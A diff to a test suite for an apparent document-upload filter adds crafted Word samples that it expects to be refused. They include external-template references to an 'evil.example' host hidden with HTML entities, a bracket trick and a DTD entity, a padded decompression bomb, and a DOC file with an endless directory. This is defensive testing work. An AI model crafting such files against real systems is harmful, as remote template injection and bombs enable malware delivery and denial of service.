@@ -153,6 +153,23 @@ describe('a file is refused', () => {
     ['external-template', 'one hidden in entities', () => sample.docx(sample.templatePart('&#104;ttps://evil.example/t.dotm'))],
     ['external-template', 'a DOCX with a template on a share', () => sample.docx(sample.templatePart('\\\\evil\\t.dotm'))],
     ['external-template', 'a share as a file', () => sample.docx(sample.templatePart('file://evil/t.dotm'))],
+    [
+      'external-template',
+      'one after a bracket',
+      () => sample.docx(sample.settingsPart('<Relationship Target="https://evil.example/?>t" Type="x/attachedTemplate"/>')),
+    ],
+    [
+      'external-template',
+      'one whose type is hidden in entities',
+      () => sample.docx(sample.templatePart('https://evil.example/t.dotm', 'x/attached&#x54;emplate')),
+    ],
+    ['bomb', 'one behind much else', () => sample.docx(sample.settingsPart('', noise(5_000_000).toString('base64')))],
+    [
+      'damaged',
+      'one with entities of its own',
+      () => sample.docx(sample.settingsPart('<Relationship Type="x/&t;"/>', '<!DOCTYPE x [<!ENTITY t "attachedTemplate">]>')),
+    ],
+    ['damaged', 'a DOC whose directory has no end', () => sample.endlessDoc()],
     ['bomb', 'a DOCX with a part that grows a thousandfold', () => sample.docx({ name: 'word/media/a', body: bigBody })],
     ['bomb', 'a DOCX that grows to 110 MB', () => sample.docx(...Array.from({ length: 110 }, (_, n) => ({ name: `a${n}`, body: zeros })))],
     ['damaged', 'a DOCX that lies about it', () => sample.docx({ name: 'word/media/a', body: bigBody, claims: 10 })],
